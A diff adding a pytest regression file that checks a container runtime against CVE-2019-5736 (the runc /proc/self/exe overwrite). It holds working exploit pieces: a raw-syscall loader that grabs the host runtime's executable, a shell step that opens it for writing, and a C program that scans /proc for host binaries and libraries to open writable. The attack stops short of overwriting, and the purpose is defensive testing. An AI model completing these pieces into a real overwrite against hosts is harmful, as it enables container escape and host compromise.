@@ -1,0 +1,219 @@
+"""CVE-2019-5736 (runc), youki#343: the container gets hold of the runtime's executable and overwrites it.
+
+The executable of a process is reachable as /proc/PID/exe. An image whose entry point leads there makes the
+kernel run the host's file inside the container, with the image's dynamic loader. The attacker keeps a
+descriptor of it, waits until nothing executes it any more, and opens it for writing. Here the attack stops
+one step before doing harm: opened for appending is enough to be guilty.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.support.containers import wait_for
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+    from pathlib import Path
+
+    from tests.support.containers import Bundle, Runtime
+
+# Runs as the dynamic loader of whatever the host's executable is: no C library, only system calls.
+LOADER = r"""
+static long call(long n, long a, long b, long c, long d) {
+    long r;
+    register long r10 __asm__("r10") = d;
+    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
+    return r;
+}
+void _start(void) {
+    static const char *argv[] = {"/bin/sh", "/overwrite", 0};
+    static const char *envp[] = {"PATH=/bin", 0};
+    long fd = call(257, -100, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
+    call(1, 1, (long)"LOADED\n", 7, 0);
+    if (fd != 9)
+        call(33, fd, 9, 0, 0); /* dup2 */
+    call(59, (long)argv[0], (long)argv, (long)envp, 0); /* execve: from here on nobody executes the file */
+    call(60, 1, 0, 0, 0);
+}
+"""
+# ">>" opens for writing and changes nothing.
+OVERWRITE = """
+readlink /proc/self/fd/9
+for i in 1 2 3 4 5; do
+    if (: >> /proc/self/fd/9) 2>/dev/null; then echo OPENED FOR WRITING; exit 66; fi
+    sleep 0.1
+done
+echo refused
+"""
+# For a runtime that is visible while it joins: take its executable while it lives, wait until it is gone.
+WATCH = r"""
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+static struct stat watch, busybox;
+static int found, opened;
+
+/* Is it a regular file, and none of the image's own? */
+static int foreign(int fd)
+{
+    struct stat other;
+    if (fd < 0 || fstat(fd, &other) || !S_ISREG(other.st_mode))
+        return 0;
+    return other.st_ino != watch.st_ino && other.st_ino != busybox.st_ino;
+}
+
+static void take_executable(const char *pid)
+{
+    char path[300];
+    snprintf(path, sizeof path, "/proc/%s/exe", pid);
+    int fd = open(path, O_PATH);
+    if (foreign(fd)) {
+        found++;
+        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+        for (int i = 0; i < 200; i++) {
+            int w = open(path, O_WRONLY | O_APPEND);
+            if (w >= 0) {
+                opened++;
+                close(w);
+                break;
+            }
+            usleep(1000);
+        }
+    }
+    if (fd >= 0)
+        close(fd);
+}
+
+static void take_libraries(const char *pid)
+{
+    char path[600];
+    snprintf(path, sizeof path, "/proc/%s/map_files", pid);
+    DIR *maps = opendir(path);
+    if (!maps)
+        return;
+    for (struct dirent *map; (map = readdir(maps));) {
+        snprintf(path, sizeof path, "/proc/%s/map_files/%s", pid, map->d_name);
+        int fd = open(path, O_WRONLY | O_NONBLOCK);
+        if (foreign(fd))
+            opened++;
+        if (fd >= 0)
+            close(fd);
+    }
+    closedir(maps);
+}
+
+int main(void)
+{
+    stat("/watch", &watch);
+    stat("/bin/busybox", &busybox);
+    while (access("/stop", F_OK)) {
+        DIR *proc = opendir("/proc");
+        for (struct dirent *entry; (entry = readdir(proc));)
+            if (atoi(entry->d_name) > 1) {
+                take_executable(entry->d_name);
+                take_libraries(entry->d_name);
+            }
+        closedir(proc);
+    }
+    FILE *out = fopen("/result.new", "w");
+    fprintf(out, "found %d opened %d\n", found, opened);
+    fclose(out);
+    rename("/result.new", "/result");
+    return 0;
+}
+"""
+
+
+@pytest.fixture(scope="module")
+def loader(compiled: Callable[..., Path]) -> Path:
+    if os.uname().machine != "x86_64":
+        pytest.skip("the attacker's loader is written for x86_64")
+    return compiled("loader", LOADER, "-static", "-nostdlib", "-fno-stack-protector", "-ffreestanding")
+
+
+def poison(bundle: Bundle, loader: Path) -> None:
+    """Put the attacker's loader wherever the host's executable looks for its own."""
+    headers = subprocess.run(
+        ["readelf", "-lW", sys.executable], capture_output=True, text=True, check=True
+    ).stdout
+    (interpreter,) = (
+        line.split(": ")[1].rstrip("]\n") for line in headers.splitlines() if "interpreter:" in line
+    )
+    place = bundle.rootfs / interpreter.lstrip("/")
+    place.parent.mkdir(parents=True, exist_ok=True)
+    place.write_bytes(loader.read_bytes())
+    place.chmod(0o755)
+    (bundle.rootfs / "overwrite").write_text(OVERWRITE)
+    (bundle.rootfs / "entry").symlink_to("/proc/self/exe")
+    (bundle.rootfs / "script").write_text("#!/proc/self/exe\n")
+    (bundle.rootfs / "script").chmod(0o755)
+    (bundle.rootfs / "indirect").write_text("#!/script\n")
+    (bundle.rootfs / "indirect").chmod(0o755)
+
+
+ENTRIES = ["/proc/self/exe", "/entry", "/script", "/indirect"]
+
+
+@pytest.mark.parametrize("entry", ENTRIES)
+def test_entry_point_that_is_the_runtime_itself(
+    bundle: Bundle, runtime: Runtime, loader: Path, entry: str
+) -> None:
+    poison(bundle, loader)
+    bundle.process["args"] = [entry]
+    result = runtime.run(bundle)
+    assert "OPENED" not in result.stdout
+    assert result.returncode != 66
+
+
+@pytest.mark.parametrize("entry", ENTRIES)
+def test_exec_of_the_runtime_itself(bundle: Bundle, runtime: Runtime, loader: Path, entry: str) -> None:
+    poison(bundle, loader)
+    result = runtime("exec", runtime.started(bundle), entry)
+    assert "OPENED" not in result.stdout
+    assert result.returncode != 66
+
+
+@pytest.mark.parametrize("entry", ["/entry", "/script"])
+def test_with_every_capability_and_no_new_privileges_off(
+    bundle: Bundle, runtime: Runtime, loader: Path, entry: str
+) -> None:
+    poison(bundle, loader)
+    bundle.process["noNewPrivileges"] = False
+    bundle.capabilities("CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH")
+    bundle.process["args"] = [entry]
+    result = runtime.run(bundle)
+    assert "OPENED" not in result.stdout
+    result = runtime("exec", runtime.started(bundle), entry)
+    assert "OPENED" not in result.stdout
+
+
+@pytest.mark.parametrize("privileged", [False, True])
+def test_watching_for_the_runtime_while_it_joins(
+    bundle: Bundle, runtime: Runtime, compiled: Callable[..., Path], *, privileged: bool
+) -> None:
+    program = compiled("watch", WATCH)
+    (bundle.rootfs / "watch").write_bytes(program.read_bytes())
+    (bundle.rootfs / "watch").chmod(0o755)
+    if privileged:
+        bundle.process["noNewPrivileges"] = False
+        bundle.capabilities(
+            "CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH", "CAP_CHECKPOINT_RESTORE"
+        )
+    name = runtime.started(bundle, "/watch; sleep 1000")
+    for _ in range(12):
+        assert runtime("exec", name, "/bin/true").returncode == 0
+    (bundle.rootfs / "stop").touch()
+    result = bundle.rootfs / "result"
+    assert wait_for(result.exists)
+    assert result.read_text().endswith("opened 0\n")
